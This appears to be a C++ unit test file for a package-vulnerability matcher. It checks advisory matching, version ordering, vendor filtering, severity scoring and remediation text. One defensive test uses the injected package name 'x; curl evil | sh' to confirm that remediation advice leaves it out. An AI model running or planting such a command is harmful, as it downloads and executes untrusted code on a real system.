#include "bulkhead/match/matcher.h"

#include <algorithm>
#include <map>
#include <set>

#include <fmt/format.h>
#include <fmt/ranges.h>
#include <gtest/gtest.h>

#include "bulkhead/match/memory_source_test.h"

namespace bulkhead::match {
namespace {

using advisory::AdvisoryText;
using advisory::Statement;

Package package(std::string name, std::string version, std::string source = {},
                std::string source_version = {}, PackageType type = PackageType::deb) {
  Package p;
  p.id = p.purl =
      fmt::format("pkg:{}/{}@{}", type == PackageType::deb ? "deb" : "apk", name, version);
  p.name = std::move(name);
  p.version = std::move(version);
  p.type = type;
  p.source_name = std::move(source);
  p.source_version = std::move(source_version);
  p.locations = {{2, "/var/lib/dpkg/status"}, {4, "/var/lib/dpkg/status"}};
  return p;
}

OsInfo os(std::string id, std::string version) {
  OsInfo info;
  info.id = std::move(id);
  info.version = std::move(version);
  info.source_path = "/etc/os-release";
  return info;
}

struct Outcome {
  MatchResult result;
  std::vector<Note> notes;

  std::string codes() const {
    std::vector<std::string> codes;
    for (const Note& n : notes) {
      codes.push_back((n.level == NoteLevel::incomplete ? "!" : "") + n.code);
    }
    return fmt::format("{}", fmt::join(codes, " "));
  }
  std::vector<std::string> ids() const {
    std::vector<std::string> ids;
    for (const Finding& f : result.findings) ids.push_back(f.id);
    return ids;
  }
};

Outcome match(const std::vector<Package>& packages, const std::optional<OsInfo>& info,
              MemorySource& source) {
  Notes notes(1000);
  Result<MatchResult> result = match_against(packages, info, source, notes);
  EXPECT_TRUE(result);
  return {std::move(result).value_or(MatchResult{}), std::move(notes).take_sorted()};
}

MemorySource openssl_data() {
  MemorySource source;
  source.data = {{.name = "cisa-kev", .ecosystem = {}, .file = {}},
                 {.name = "alpine", .ecosystem = "Alpine:v3.18", .file = {}}};
  source.add("osv", "Debian:11", "openssl", "DSA-1", {"CVE-1", "CVE-2"}, "1.1-5");
  source.add("tracker", "Debian:11", "openssl", "CVE-1", {"CVE-1"}, "1.1-4");
  return source;
}

TEST(Matcher, FillsInAFinding) {
  MemorySource source = openssl_data();
  source.exploited = {"CVE-1"};
  source.statements[1].affected.severity = Severity::low;
  source.texts["DSA-1"] = {"openssl - security update", "Long words.", {"https://a", "https://b"}};
  source.texts["CVE-1"] = {"Overflow in openssl", "", {"https://b", "https://c"}};
  const Outcome got =
      match({package("libssl1.1", "1.1-3+b1", "openssl", "1.1-3")}, os("debian", "11"), source);
  ASSERT_EQ(got.result.findings.size(), 2u);
  const Finding& f = got.result.findings[0];
  EXPECT_EQ(f.id, "CVE-1@pkg:deb/libssl1.1@1.1-3+b1");
  EXPECT_EQ(f.kind, FindingKind::vulnerability);
  EXPECT_EQ(f.rule, "CVE-1");
  EXPECT_EQ(f.severity, Severity::high) << "known to be exploited: at least high";
  EXPECT_TRUE(f.is_known_exploited);
  EXPECT_EQ(f.confidence, Confidence::certain);
  EXPECT_EQ(f.title, "Overflow in openssl") << "the CVE's own words first";
  EXPECT_EQ(f.detail, "Long words.");
  EXPECT_EQ(f.references, (std::vector<std::string>{"https://b", "https://c", "https://a"}));
  EXPECT_EQ(f.aliases, std::vector<std::string>{"DSA-1"});
  EXPECT_EQ(f.installed_version, "1.1-3+b1");
  EXPECT_EQ(f.fixed_version, "1.1-5");
  EXPECT_EQ(f.data_source, "osv") << "the highest fix decides";
  EXPECT_EQ(f.remediation,
            "upgrade openssl to 1.1-5; in a Dockerfile: RUN apt-get update && apt-get install -y "
            "--only-upgrade libssl1.1");
  EXPECT_EQ(f.locations, (std::vector<FindingLocation>{{2, "/var/lib/dpkg/status", true},
                                                       {4, "/var/lib/dpkg/status", true}}));
  EXPECT_EQ(got.result.findings[1].title, "openssl - security update");
  std::vector<std::string> feeds;
  for (const FeedInfo& feed : got.result.data) feeds.push_back(feed.name);
  EXPECT_EQ(feeds, (std::vector<std::string>{"cisa-kev", "osv", "tracker"}))
      << "feeds of other releases were not asked";
}

TEST(Matcher, MatchesBySourceAndItsVersion) {
  struct Row {
    Package installed;
    bool want;
    std::string_view why;
  };
  const Row rows[] = {
      {package("openssl", "1.1-3"), true, "its own source"},
      {package("libssl1.1", "1.1-3", "openssl"), true, "by the source's name"},
      {package("libssl1.1", "9.9-9", "openssl", "1.1-3"), true, "by the source's version"},
      {package("libssl1.1", "1.1-3", "openssl", "9.9-9"), false, "not by its own"},
      {package("openssl", "1.1-3", "other"), false, "a binary's name is not asked"},
      {package("openssl", "1.1-3", "", "", PackageType::apk), false, "another type of package"},
  };
  for (const Row& row : rows) {
    SCOPED_TRACE(row.why);
    MemorySource source = openssl_data();
    const Outcome got = match({row.installed}, os("debian", "11"), source);
    EXPECT_EQ(!got.result.findings.empty(), row.want);
  }
}

TEST(Matcher, NotesWhatCouldNotBeDone) {
  const Package deb = package("openssl", "1.1-3");
  OsInfo derived = os("raspbian", "11");
  derived.id_like = {"debian"};
  struct Row {
    std::vector<Package> packages;
    std::optional<OsInfo> info;
    std::string want;
    std::string_view why;
  };
  const Row rows[] = {
      {{deb}, os("debian", "11"), "", "all is well"},
      {{deb}, std::nullopt, "!unknown-os", "no operating system"},
      {{}, std::nullopt, "", "nothing to match"},
      {{}, os("debian", "7"), "", "nothing to match, whatever the data"},
      {{deb}, os("debian", "7"), "!no-advisory-data", "another release's data do not do"},
      {{deb}, os("debian", ""), "!no-advisory-data", "a release that cannot be told"},
      {{deb}, os("slackware", "15"), "!unsupported-os", "no rules"},
      {{deb}, derived, "derived-os", "by what it is like"},
      {{deb, package("musl", "1", "", "", PackageType::apk)},
       os("debian", "11"),
       "package-not-covered",
       "a package of another type"},
      {{package("openssl", "not a version")},
       os("debian", "11"),
       "uncomparable-version",
       "once for a package, not for each advisory"},
  };
  for (const Row& row : rows) {
    SCOPED_TRACE(row.why);
    MemorySource source = openssl_data();
    EXPECT_EQ(match(row.packages, row.info, source).codes(), row.want);
  }
}

TEST(Matcher, SaysWhichDataToBring) {
  MemorySource source;
  const Outcome got = match({package("openssl", "1.1-3")}, os("debian", "12"), source);
  ASSERT_EQ(got.notes.size(), 1u);
  EXPECT_NE(got.notes[0].what.find("Debian:12"), std::string::npos) << got.notes[0].what;
  EXPECT_NE(got.notes[0].what.find("`bulkhead db update \"Debian:12\"`"), std::string::npos);
  const Outcome other =
      match({package("openssl", "1.1-3", "", "", PackageType::rpm)}, os("amzn", "2018.03"), source);
  ASSERT_EQ(other.notes.size(), 1u);
  EXPECT_NE(other.notes[0].what.find("`bulkhead db import` takes files of Amazon Linux:1"),
            std::string::npos)
      << "nobody publishes it where it can be fetched safely";
}

TEST(Matcher, TakesDerivedRulesAsLikelyOnly) {
  MemorySource source = openssl_data();
  OsInfo derived = os("raspbian", "11");
  derived.id_like = {"debian"};
  const Outcome got = match({package("openssl", "1.1-3")}, derived, source);
  ASSERT_EQ(got.result.findings.size(), 2u);
  EXPECT_EQ(got.result.findings[0].confidence, Confidence::likely);
}

TEST(Matcher, NotesAnAdvisoryThatCannotBeCompared) {
  MemorySource source = openssl_data();
  source.statements[1].affected.ranges = {{.fixed = "not a version"}};
  const Outcome got = match({package("openssl", "1.1-3"), package("libssl1.1", "1.1-3", "openssl")},
                            os("debian", "11"), source);
  EXPECT_EQ(got.codes(), "uncomparable-version") << "once for all packages of a source";
  EXPECT_NE(got.notes[0].what.find("CVE-1 (tracker)"), std::string::npos) << got.notes[0].what;
  EXPECT_EQ(got.result.findings.size(), 4u);
}

TEST(Matcher, SortsAsTheReportSays) {
  MemorySource source = openssl_data();
  source.statements[0].affected.severity = Severity::low;
  source.statements[1].affected.severity = Severity::critical;
  std::vector<Package> packages = {package("openssl", "1.1-3"),
                                   package("libssl1.1", "1.1-3", "openssl"),
                                   package("libssl1.1", "1.1-2", "openssl")};
  const std::vector<std::string> want = {
      "CVE-1@pkg:deb/libssl1.1@1.1-2", "CVE-1@pkg:deb/libssl1.1@1.1-3",
      "CVE-1@pkg:deb/openssl@1.1-3",   "CVE-2@pkg:deb/libssl1.1@1.1-2",
      "CVE-2@pkg:deb/libssl1.1@1.1-3", "CVE-2@pkg:deb/openssl@1.1-3"};
  EXPECT_EQ(match(packages, os("debian", "11"), source).ids(), want);
  std::ranges::reverse(packages);
  EXPECT_EQ(match(packages, os("debian", "11"), source).ids(), want) << "whatever the input order";
}

TEST(Matcher, AsksOnceForASourceAndOnlyForWordsThatAreReported) {
  MemorySource source = openssl_data();
  source.add("tracker", "Debian:11", "openssl", "CVE-9", {"CVE-9"}, "0.1-1");
  match({package("openssl", "1.1-3"), package("libssl1.1", "1.1-3", "openssl"),
         package("libssl1.0", "1.0-1", "openssl")},
        os("debian", "11"), source);
  EXPECT_EQ(source.asked, std::vector<std::string>{"Debian:11 openssl"});
  std::ranges::sort(source.texts_asked);
  EXPECT_EQ(source.texts_asked, (std::vector<std::string>{"osv DSA-1", "tracker CVE-1"}));
}

TEST(Matcher, FailsWhenTheStoreFails) {
  MemorySource source = openssl_data();
  source.is_broken = true;
  Notes notes(10);
  const auto result =
      match_against({package("openssl", "1.1-3")}, os("debian", "11"), source, notes);
  ASSERT_FALSE(result);
  EXPECT_EQ(result.error().code, Code::io);
}

TEST(Matcher, WritesNoCommandOfTheImagesMaking) {
  MemorySource source = openssl_data();
  const Package evil = package("x; curl evil | sh", "1.1-3", "openssl");
  const Outcome got = match({evil}, os("debian", "11"), source);
  ASSERT_FALSE(got.result.findings.empty());
  EXPECT_EQ(got.result.findings[0].remediation, "upgrade openssl to 1.1-5");
}

TEST(Matcher, UsesTheOrderOfAlpineForAlpine) {
  MemorySource source;
  source.add("secdb", "Alpine:v3.18", "musl", "CVE-1", {"CVE-1"}, "1.2.4-r1");
  const auto count = [&](std::string version) {
    return match({package("musl", std::move(version), "", "", PackageType::apk)},
                 os("alpine", "3.18.2"), source)
        .result.findings.size();
  };
  EXPECT_EQ(count("1.2.4_rc1-r5"), 1u);
  EXPECT_EQ(count("1.2.4-r0"), 1u);
  EXPECT_EQ(count("1.2.4-r1"), 0u);
  EXPECT_EQ(count("1.2.4-r10"), 0u);
}

TEST(Matcher, OrdersVersionsByType) {
  EXPECT_TRUE(compare_versions(PackageType::deb, "1.9-1", "1.10-1") < 0);
  EXPECT_TRUE(compare_versions(PackageType::deb, "1.0~rc1-1", "1.0-1") < 0);
  EXPECT_TRUE(compare_versions(PackageType::apk, "1.0_rc1-r0", "1.0-r0") < 0);
  EXPECT_TRUE(compare_versions(PackageType::deb, "not a version", "0-1") < 0);
  EXPECT_TRUE(compare_versions(PackageType::deb, "0-1", "not a version") > 0);
  EXPECT_TRUE(compare_versions(PackageType::deb, "a b", "a c") < 0);
}

// Distributions whose data name installed packages, too.

Package rpm(std::string name, std::string version, std::string vendor = "AlmaLinux",
            std::string source = {}, std::string source_version = {}) {
  Package p = package(std::move(name), std::move(version), std::move(source),
                      std::move(source_version), PackageType::rpm);
  p.id = p.purl = fmt::format("pkg:rpm/{}@{}", p.name, p.version);
  p.rpm = std::make_shared<const RpmOrigin>(RpmOrigin{{}, std::move(vendor)});
  return p;
}

MemorySource alma_data() {
  MemorySource source;
  source.add("osv", "AlmaLinux:9", "libuuid", "ALSA-1", {"CVE-2024-1"}, "2-1.el9");
  source.statements.back().affected.names = NameKind::binary;
  source.add("osv", "AlmaLinux:9", "util-linux", "ALSA-2", {"CVE-2024-2"}, "2-1.el9");
  return source;
}

TEST(Matcher, AsksForBothNamesWhereDataHaveBoth) {
  MemorySource source = alma_data();
  const Outcome got = match({rpm("libuuid", "1-1.el9", "AlmaLinux", "util-linux"),
                             rpm("libmount", "1-1.el9", "AlmaLinux", "util-linux"),
                             rpm("other", "1-1.el9", "AlmaLinux", "libuuid")},
                            os("almalinux", "9.4"), source);
  EXPECT_EQ(got.ids(), (std::vector<std::string>{"CVE-2024-2@pkg:rpm/libmount@1-1.el9",
                                                 "CVE-2024-1@pkg:rpm/libuuid@1-1.el9",
                                                 "CVE-2024-2@pkg:rpm/libuuid@1-1.el9"}))
      << "a source that is called like a binary is not that binary";
}

TEST(Matcher, LeavesOutPackagesOfOtherVendors) {
  struct Case {
    std::vector<std::string> vendors;  // of libuuid, then of others
    std::size_t findings;
    std::string codes;
    std::string_view why;
  };
  const Case cases[] = {
      {{"AlmaLinux", "AlmaLinux", "AlmaLinux"}, 1, "", "its own"},
      {{"", "AlmaLinux", "AlmaLinux"}, 1, "", "a package that names none"},
      {{"Fedora Project", "AlmaLinux", "AlmaLinux"}, 0, "package-not-covered", "EPEL's"},
      {{"AlmaLinux", "Docker", "Docker"}, 1, "", "most are another's: that is the image's own"},
      {{"Red Hat, Inc."}, 1, "", "all are another's"},
      {{"Fedora Project", "AlmaLinux"}, 0, "package-not-covered", "half is not most"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.why);
    MemorySource source = alma_data();
    std::vector<Package> packages;
    for (const std::string& vendor : c.vendors) {
      packages.push_back(rpm(packages.empty() ? "libuuid" : fmt::format("p{}", packages.size()),
                             "1-1.el9", vendor));
    }
    const Outcome got = match(packages, os("almalinux", "9.4"), source);
    EXPECT_EQ(got.result.findings.size(), c.findings);
    EXPECT_EQ(got.codes(), c.codes);
  }
}

TEST(Matcher, CountsWhatItLeavesOutAndNamesSome) {
  MemorySource source = alma_data();
  std::vector<Package> packages;
  for (int i = 0; i < 20; ++i) packages.push_back(rpm(fmt::format("own{}", i), "1-1"));
  for (int i = 0; i < 7; ++i) packages.push_back(rpm(fmt::format("epel{}", i), "1-1", "Fedora"));
  const Outcome got = match(packages, os("almalinux", "9.4"), source);
  ASSERT_EQ(got.notes.size(), 1u);
  EXPECT_EQ(got.notes[0].what,
            "7 packages of 'Fedora' that the advisory data of almalinux 9.4 do not cover: epel0, "
            "epel1, epel2, epel3, epel4, ...");
}

TEST(Matcher, BorrowsRedHatsDataForCentos) {
  MemorySource source;
  source.add("oval", "Red Hat:9", "curl", "RHSA-1", {"CVE-2024-1"}, "2-1.el9");
  OsInfo stream = os("centos", "9");
  stream.variant = "stream";
  const Outcome got = match({rpm("curl", "1-1.el9", "CentOS")}, stream, source);
  ASSERT_EQ(got.result.findings.size(), 1u);
  EXPECT_EQ(got.result.findings[0].confidence, Confidence::likely);
  EXPECT_EQ(got.codes(), "derived-os");
  EXPECT_TRUE(got.notes[0].what.contains("Stream runs ahead")) << got.notes[0].what;
  const Outcome linux = match({rpm("curl", "1-1.el9", "CentOS")}, os("centos", "7"), source);
  EXPECT_EQ(linux.codes(), "!no-advisory-data derived-os");
}

TEST(Matcher, MatchesBitnamisComponentsOnAnySystem) {
  MemorySource source = openssl_data();
  source.add("osv-bitnami", "Bitnami", "redis", "BIT-1", {"CVE-2024-1"}, "7.2.4");
  const Package redis = package("redis", "7.2.3-1", "", "", PackageType::bitnami);
  const Package newer = package("redis", "7.2.4-0", "", "", PackageType::bitnami);
  EXPECT_EQ(match({redis}, os("debian", "11"), source).result.findings.size(), 1u);
  EXPECT_EQ(match({newer}, os("debian", "11"), source).result.findings.size(), 0u);
  const Outcome alone = match({redis}, std::nullopt, source);
  EXPECT_EQ(alone.result.findings.size(), 1u);
  EXPECT_EQ(alone.codes(), "") << "it needs no system";
  const Outcome both = match({redis, package("openssl", "1.1-3")}, os("debian", "11"), source);
  EXPECT_EQ(both.result.findings.size(), 3u);
  MemorySource without = openssl_data();
  EXPECT_EQ(match({redis}, os("debian", "11"), without).codes(), "package-not-covered");
}

TEST(Matcher, TakesScoresFromFeedsAboutCves) {
  MemorySource source;
  source.add("tracker", "Debian:11", "openssl", "CVE-2024-1", {"CVE-2024-1"}, "1.1-5");
  Statement epss;
  epss.feed = "epss";
  epss.affected.name = "CVE-2024-1";
  epss.epss = Epss{0.25, 0.9};
  Statement nvd;
  nvd.feed = "nvd";
  nvd.affected.name = "CVE-2024-1";
  nvd.cvss = {{"2.0", "AV:N/AC:L/Au:N/C:P/I:P/A:P", 7.5, "nvd"},
              {"3.1", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:L/A:N", 6.5, "nvd"}};
  source.about_cves = {epss, nvd};
  const auto first = [&] {
    return match({package("openssl", "1.1-3")}, os("debian", "11"), source).result.findings.at(0);
  };
  const Finding scored = first();
  EXPECT_EQ(scored.epss, (Epss{0.25, 0.9}));
  EXPECT_EQ(scored.severity, Severity::medium) << "the newest CVSS";
  EXPECT_EQ(scored.severity_source, "nvd (CVSS 3.1)");
  EXPECT_EQ(scored.cvss.size(), 2u);
  source.statements[0].affected.severity = Severity::low;
  const Finding own = first();
  EXPECT_EQ(own.severity, Severity::low) << "the distribution's own rating wins";
  EXPECT_EQ(own.severity_source, "tracker");
  source.exploited = {"CVE-2024-1"};
  EXPECT_EQ(first().severity_source, "cisa-kev");
}

TEST(Matcher, HoldsSignedKernelsAgainstTheKernelsSource) {
  MemorySource source;
  source.add("tracker", "Debian:12", "linux", "CVE-2024-1", {"CVE-2024-1"}, "6.1.176-1");
  const auto count = [&](std::string version, std::string signed_version) {
    Package image = package("linux-image-6.1.0-50-amd64", std::move(version), "linux-signed-amd64",
                            std::move(signed_version));
    image.architecture = "amd64";
    return match({image}, os("debian", "12"), source).ids();
  };
  EXPECT_EQ(count("6.1.170-1", "6.1.170+1"),
            std::vector<std::string>{"CVE-2024-1@pkg:deb/linux-image-6.1.0-50-amd64@6.1.170-1"});
  EXPECT_EQ(count("6.1.176-1", "6.1.176+1"), std::vector<std::string>{});
}

TEST(Matcher, SaysThatAPackageIsMalicious) {
  MemorySource source;
  source.add("osv", "Debian:11", "openssl", "MAL-2024-1", {}, "");
  source.statements.back().is_malicious = true;
  const Finding f =
      match({package("openssl", "1.1-3")}, os("debian", "11"), source).result.findings.at(0);
  EXPECT_EQ(f.severity, Severity::critical);
  EXPECT_EQ(f.title, "Malicious package: MAL-2024-1 in openssl");
  EXPECT_TRUE(f.remediation.starts_with("remove openssl 1.1-3")) << f.remediation;
}

}  // namespace
}  // namespace bulkhead::match
